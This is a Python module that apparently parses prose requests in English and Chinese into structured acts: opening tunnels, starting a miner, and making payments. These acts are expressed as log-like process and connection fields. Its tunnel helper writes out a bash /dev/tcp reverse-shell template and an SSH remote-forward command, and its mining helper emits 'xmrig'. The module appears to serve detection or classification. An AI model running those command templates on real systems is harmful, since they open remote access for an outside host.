"""Acts of opening a way in, of mining and of paying, as prose asks for them."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pinfold.language.prose.mentions import Mention, Sentence
from pinfold.language.prose.reference import Draft, Memory, destination
from pinfold.language.prose.verbs import Verb
from pinfold.language.prose.wording import beginning, listed, wording
from pinfold.model import ActKind, FieldValue

_PAYEE = re.compile(r"\bto\s{1,4}[`\"'*]{0,3}([\w@.:/-]{3,120})|(?:给|給|向|到|至)\s{0,4}[`\"'*]{0,3}([\w@.:/-]{2,80})")
_PAYEE_BEFORE = re.compile(
    r"(?:向|给|給)\s{0,4}([^\s,，。]{1,40}?)\s{0,4}(?:转账|轉賬|轉帳|付款|支付|打款|汇款|匯款|充值|转|轉)"
)
_NUMBER = re.compile(r"\d[\d,.]*")


def tunnels(sentence: Sentence, memory: Memory) -> Iterator[Draft]:
    """Yield acts of opening a way back in: the command that stands for the wording, and its connection."""
    for what in sentence.of("tunnel", "tunnel_tool"):
        found = _opened(sentence, what)
        if found is None:
            continue
        at, asked = found
        start, end = min(at.start, what.start), max(at.end, what.end)
        places = sentence.of("url", "host", "address", "place")
        fields: dict[str, FieldValue] = {"DestinationHostname": "*"}
        if places:
            fields = destination(sentence, places[0], memory)
        yield Draft(ActKind.EXEC, _tunnel_command(sentence.folded_words(what), what.kind, fields), start, end, asked)
        yield Draft(ActKind.CONNECT, {**fields, "ReverseTunnel": True}, start, end, asked)


def _opened(sentence: Sentence, what: Mention) -> tuple[Mention, bool] | None:
    """Return the verb that opens a tunnel or starts a tool, and whether it asks for it."""
    if what.kind == "tunnel_tool":
        part_of_name = sentence.data[max(0, what.start - 1) : what.start] in (b".", b"/", b"-", b"<", b"_")
        outward = listed("beside", "outward").search(sentence.data)
        if part_of_name or outward is None or sentence.before(what.start).endswith(b"which"):
            return None
        found = sentence.governing(what, "expose")
    else:
        found = sentence.governing(what, "open")
    if found is not None:
        return found[0], found[2]
    return (what, True) if sentence.folded_words(what).startswith("反弹") else None


def _tunnel_command(words: str, kind: str, fields: dict[str, FieldValue]) -> dict[str, FieldValue]:
    """Return the command that stands for the wording: the tool itself, a reverse shell, or a remote forwarding."""
    if kind == "tunnel_tool":
        return {"Image": words, "CommandLine": words}
    host = fields.get("DestinationHostname") or fields.get("DestinationIp")
    if "shell" in words or "反弹" in words:
        port = fields.get("DestinationPort", 443)
        return {"Image": "bash", "CommandLine": f"bash -i >& /dev/tcp/{host}/{port} 0>&1"}
    return {"Image": "ssh", "CommandLine": f"ssh -N -R 0:localhost:22 {host}"}


def mining(sentence: Sentence) -> Iterator[Draft]:
    """Yield acts of starting a miner."""
    for what in sentence.of("mining"):
        words = sentence.folded_words(what)
        if words in ("miner", "miners") and not listed("things", "mining_near").search(sentence.data):
            continue
        if beginning("things", "mining_about").search(sentence.data[what.end : what.end + 40]):
            continue
        found = sentence.governing(what, "mine")
        if found is not None:
            at, asked = found[0], found[2]
        elif _mines(words, sentence.before(what.start)):
            at, asked = what, True
        else:
            continue
        start, end = min(at.start, what.start), max(at.end, what.end)
        yield Draft(ActKind.EXEC, {"Image": "xmrig", "CommandLine": "xmrig"}, start, end, asked)


def _mines(words: str, before: bytes) -> bool:
    """Tell whether words of mining are an order by themselves ("mine Monero", "… by mining Kaspa")."""
    if words.startswith("mining "):
        return before.endswith((b"by", b"start", b"begin", b"keep"))
    return words.startswith(("mine ", "挖", "挂机")) and not before.endswith((b" the", b" a"))


def payments(sentence: Sentence) -> Iterator[Draft]:
    """Yield acts of paying somebody."""
    for what in sentence.of("amount"):
        found = sentence.governing(what, "pay")
        if found is None or not _pays(sentence.data, found[0], found[1], what):
            continue
        at, _, asked = found
        words = sentence.words(what)
        number = _NUMBER.search(words)
        amount = number.group().rstrip(".,").replace(",", "") if number else ""
        fields: dict[str, FieldValue] = {"Amount": amount, "Currency": _currency(words)}
        after = sentence.text[sentence.folded.span(what.start, what.end)[0] :]
        payee = _PAYEE.search(after) or _PAYEE_BEFORE.search(sentence.text)
        if payee is not None:
            fields["Payee"] = next(filter(None, payee.groups())).rstrip(".,;:")
        yield Draft(ActKind.SPEND, fields, min(at.start, what.start), max(at.end, what.end), asked)


def _pays(data: bytes, at: Mention, verb: Verb, what: Mention) -> bool:
    """Tell whether an amount is what a verb of paying moves, and no price, limit or rate beside it."""
    if data[what.end : what.end + 1] == b"/":
        return False
    if at.start > what.start:
        return not verb.lemma.isascii()
    gap = data[at.end : what.start]
    return len(gap) <= 40 and listed("beside", "as_price").search(gap) is None


def _currency(words: str) -> str:
    folded = words.casefold()
    for code, names in wording()["currency"].items():
        if any(name in folded for name in names):
            return str(code)
    return re.sub(r"[^a-z]", "", folded).upper()
